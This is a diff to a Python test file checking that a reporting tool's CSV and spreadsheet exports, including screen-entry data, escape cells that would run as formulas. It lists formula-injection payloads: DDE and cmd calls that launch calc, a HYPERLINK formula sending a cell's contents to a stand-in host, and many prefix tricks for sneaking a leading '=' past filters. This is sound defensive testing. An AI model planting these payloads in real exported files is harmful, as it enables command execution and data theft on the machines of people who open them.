@@ -10,6 +10,7 @@ import zipfile
 from datetime import date
 from itertools import cycle, product
 from pathlib import Path
+from types import SimpleNamespace
 from typing import Any
 
 import pandas as pd
@@ -21,15 +22,18 @@ from impact.export import figures_download, table_files
 from impact.export.frames import build_frame
 from impact.ingest.annotate import annotate_workbook
 from impact.ingest.template.writer import PrefilledValue, TemplateIndicator, write_template
-from impact.model.submission import Issue, IssueKind, Severity
+from impact.model.entry import EnteredIndicator, EnteredValue, ScreenEntry
+from impact.model.submission import Issue, IssueKind, Severity, ValueKind
 from impact.model.words import Language, Level, Measure
+from impact.services.entry import entry_file
 from impact.views.figures.figure_columns import DAY, FIGURES, FLAG, NUMBER, TEXT, WHOLE, Records
 from impact.views.figures.figure_list import FIGURE_LIST_COLUMNS, FigureList
+from impact.views.figures.spreadsheet_text import escape_formulas
 from tests.ingest.packed import NO_OFFICE, OFFICE, parts, saved_by_office
 
 STARTS = (
     "=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "\u00a0=", "\u200b=", "\ufeff=", "＝", "＋", "－", "＠", "﹦",
-    "'=", '"=', "|=", ";=", "a;=", "a; +", "a\t=", "a\n@", 'a";=', "=-+", "{=", "%=",
+    "'=", '"=', "|=", ";=", "a;=", "a; +", ",=", "a, =", "a\t=", "a\n@", 'a";=', "=-+", "{=", "%=",
 )  # fmt: skip
 BODIES = (
     "1+1", "cmd|' /C calc'!A0", "HYPERLINK(\"http://x.example/?\"&A1,\"klik\")", "DDE(\"cmd\";\"/C calc\";\"x\")",
@@ -139,9 +143,27 @@ def test_no_export_holds_a_live_formula(name: str) -> None:
     assert sum(re.sub(r"\s", "", payload) in kept for payload in PAYLOADS) == len(PAYLOADS)
 
 
+def an_entry() -> bytes:
+    """What somebody typed on screen, as it is kept and fetched like a file."""
+    day = date(2025, 12, 31)
+    values = tuple(EnteredValue("1", ValueKind.ACTUAL, day, day, note=payload) for payload in PAYLOADS)
+    indicators = tuple(EnteredIndicator(str(number), title=payload) for number, payload in enumerate(PAYLOADS))
+    known: Any = SimpleNamespace(indicators={})
+    return entry_file.write_entry(ScreenEntry("5d1f", values, indicators), known, Language.NL)
+
+
+TEXT_TABLES = {
+    "figures": lambda: table_files.write_figures(a_list(), "csv"),
+    "figures as Dutch spreadsheets open them": lambda: table_files.as_local_csv(a_list(), Language.NL),
+    "figures as English spreadsheets open them": lambda: table_files.as_local_csv(a_list(), Language.EN),
+    "an entry on screen": an_entry,
+}
+
+
+@pytest.mark.parametrize("name", list(TEXT_TABLES))
 @pytest.mark.parametrize("delimiter", [",", ";", "\t", "|"])
-def test_no_text_table_holds_a_cell_that_would_run_however_it_is_parted(delimiter: str) -> None:
-    words = table_files.write_figures(a_list(), "csv").decode("utf-8")
+def test_no_text_table_holds_a_cell_that_would_run_however_it_is_parted(delimiter: str, name: str) -> None:
+    words = TEXT_TABLES[name]().decode("utf-8-sig")
     cells = [cell for row in csv.reader(io.StringIO(words), delimiter=delimiter) for cell in row]
     assert len(cells) > len(PAYLOADS)
     assert [cell for cell in cells if SIGN.match(cell)] == []
@@ -167,7 +189,7 @@ def test_the_measure_finds_a_formula_where_there_is_one() -> None:
     ("meisjes; jongens", "meisjes; jongens"), ("=1", "'=1"), ("x;=1", "x;'=1"), ("＝1", "'＝1"),
 ])  # fmt: skip
 def test_only_what_would_run_gets_an_apostrophe(text: str, written: str) -> None:
-    assert table_files.escape_formulas(text) == written
+    assert escape_formulas(text) == written
 
 
 def test_broken_text_breaks_no_export() -> None:
